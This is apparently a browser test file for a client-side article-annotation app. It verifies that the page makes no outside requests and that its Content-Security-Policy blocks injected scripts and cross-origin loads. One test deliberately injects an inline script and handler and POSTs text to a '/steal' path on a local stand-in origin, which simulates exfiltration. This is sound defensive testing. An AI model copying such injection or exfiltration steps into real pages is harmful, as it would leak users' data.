// Nothing leaves the page: every request of the browser context is recorded from the first one.
// Loading fetches only the site's own files; reading, typing, correcting, opening files and
// exporting make no request at all; and the running page's Content-Security-Policy blocks inline
// script, eval, and connections, images and frames to any other origin.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { DIST, articleInput, pasteArticle, DOCUMENT } from './harness.mjs';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { serve } from './server.mjs';
import { openWatched, reload, sideEffects, file, openFiles, notice, waitForText } from './safety-support.mjs';

let app;
before(async () => { app = await openWatched(); });
after(async () => { await app?.close(); });

/** Requests that are not a download of this page's own data (`blob:` and `data:` URLs never reach the network). */
const network = (requests) => requests.filter((r) => !/^(blob|data):/.test(r.url));

test('loading the page fetches only its own files, from its own origin', async () => {
  const { page, site } = app;
  await reload(page);
  const origin = new URL(site.url).origin;
  const fetched = network(app.requests);
  assert.ok(fetched.length >= 3, `too few requests recorded: ${fetched.map((r) => r.url)}`);
  for (const r of fetched) {
    assert.equal(new URL(r.url).origin, origin, `a request to another origin: ${r.url}`);
    assert.equal(r.method, 'GET', `${r.method} ${r.url}`);
    // Its own files only: each one is in the built site (Chromium may also ask for /favicon.ico).
    const path = decodeURIComponent(new URL(r.url).pathname);
    assert.ok(path === '/' || path === '/favicon.ico' || existsSync(join(DIST, path)), `not one of the site's files: ${r.url}`);
  }
});

test('reading, typing, correcting, opening files and exporting make no request at all', async () => {
  const { page } = app;
  await page.evaluate(() => localStorage.clear());
  await reload(page);
  // The service worker precaches the app once, on the first visit: let it finish first.
  await page.evaluate(() => Promise.race([navigator.serviceWorker?.ready, new Promise((done) => setTimeout(done, 5_000))]));
  const start = app.requests.length;
  const served = app.site.requests.length;
  const text = 'Around 3,000 Rwandan soldiers are fighting alongside M23 rebels near Goma, UN experts said. Kigali denied it.';
  await pasteArticle(page, text);
  await waitForText(page, text);
  await articleInput(page).press('End');
  await page.keyboard.type(' The M23 said 200 fighters had died.', { delay: 5 });
  await page.waitForFunction((sel) => document.querySelector(sel).textContent.endsWith('had died.'), DOCUMENT);
  // Explore: details, keyboard, panel tabs, legend.
  const mark = page.locator(`${DOCUMENT} mark`).first();
  await mark.hover();
  await mark.click();
  await page.keyboard.press('Escape');
  await page.keyboard.press('j');
  await page.keyboard.press('Escape');
  await page.getByRole('tab', { name: /Actors/ }).click();
  // A correction.
  await page.getByLabel('Add a missing actor').fill('Wazalendo');
  await page.getByRole('button', { name: 'Add', exact: true }).click();
  await page.locator('.rules').getByText(/Wazalendo/).waitFor();
  // Files: text and an HTML page that names remote images, scripts and frames.
  await openFiles(page, file('goma.txt', 'Some 1,000 Burundian troops deployed to South Kivu.'));
  await waitForText(page, 'Some 1,000 Burundian troops deployed to South Kivu.');
  await openFiles(page, file('remote.html', '<img src="https://example.com/a.png"><script src="https://example.com/a.js"></script><iframe src="https://example.com/"></iframe><link rel="stylesheet" href="https://example.com/a.css"><p style="background:url(https://example.com/b.png)">Chad said 500 troops left.</p>', 'text/html'));
  await waitForText(page, 'Chad said 500 troops left.');
  // Every export, and a new tab, a switch and a close.
  for (const kind of ['json', 'csv', 'jsonld', 'html']) {
    await page.locator('.menu summary').click();
    await Promise.all([page.waitForEvent('download'), page.locator(`button[data-export="${kind}"]`).click()]);
  }
  await page.getByRole('button', { name: 'New article' }).click();
  await page.locator('.tablist [role="tab"]').first().click();
  await page.getByRole('button', { name: /^Close / }).last().click();
  await page.waitForTimeout(500);
  assert.deepEqual(network(app.requests.slice(start)).map((r) => `${r.type} ${r.url}`), []);
  assert.deepEqual(app.site.requests.slice(served), [], 'the server was asked for something');
  const seen = await sideEffects(page);
  assert.deepEqual(seen.violations.filter((v) => !v.startsWith('script-src-attr') && !v.startsWith('style-src')), [],
    'something on the page was blocked by its policy');
  assert.deepEqual(app.problems, []);
});

test('the running page blocks inline script, eval, and connections, images and frames to other origins', async () => {
  const { page } = app;
  await reload(page);
  // Another origin that would see any request reaching it: the same files on another port.
  const elsewhere = await serve(DIST);
  const other = new URL(elsewhere.url).origin;
  const outcome = await page.evaluate(async (other) => {
    const result = {};
    const script = document.createElement('script');
    script.textContent = 'window.__inlineRan = true';
    document.body.append(script);
    result.inline = window.__inlineRan === true;
    const handler = document.createElement('div');
    handler.setAttribute('onclick', 'window.__handlerRan = true');
    document.body.append(handler);
    handler.click();
    result.handler = window.__handlerRan === true;
    // (eval cannot be tried from here: the test driver's own code is exempt from the policy; read the policy instead.)
    result.policies = [...document.querySelectorAll('meta[http-equiv="Content-Security-Policy" i]')].map((m) => m.content);
    try { await fetch(`${other}/steal`, { method: 'POST', body: 'text' }); result.fetch = true; } catch { result.fetch = false; }
    const image = new Image();
    result.image = await new Promise((done) => { image.onload = () => done(true); image.onerror = () => done(false); image.src = `${other}/pixel.gif`; });
    const frame = document.createElement('iframe');
    frame.src = `${other}/`;
    document.body.append(frame);
    await new Promise((done) => setTimeout(done, 300));
    result.violations = window.__safety.violations.map((v) => v.split(' ')[0]);
    script.remove(); handler.remove(); frame.remove();
    return result;
  }, other);
  await elsewhere.close();
  assert.equal(outcome.inline, false, 'an inline script ran');
  assert.equal(outcome.handler, false, 'an inline event handler ran');
  // Some policy in force allows scripts only from the page's own files: no inline code, no eval.
  const scriptSources = outcome.policies.map((p) => p.split(';').map((d) => d.trim()).find((d) => d.startsWith('script-src ')) ?? '');
  assert.ok(scriptSources.some((d) => d.includes("'self'") && !/'unsafe-inline'|'unsafe-eval'|\*|https?:/.test(d)),
    `no policy restricts scripts to the page's own files: ${outcome.policies.join(' | ')}`);
  assert.equal(outcome.fetch, false, 'a fetch to another origin went out');
  assert.equal(outcome.image, false, 'an image from another origin loaded');
  for (const directive of ['script-src-elem', 'script-src-attr', 'connect-src', 'img-src', 'frame-src']) {
    assert.ok(outcome.violations.includes(directive), `no ${directive} violation: ${outcome.violations}`);
  }
  assert.deepEqual(elsewhere.requests, [], 'a request reached another origin');
});
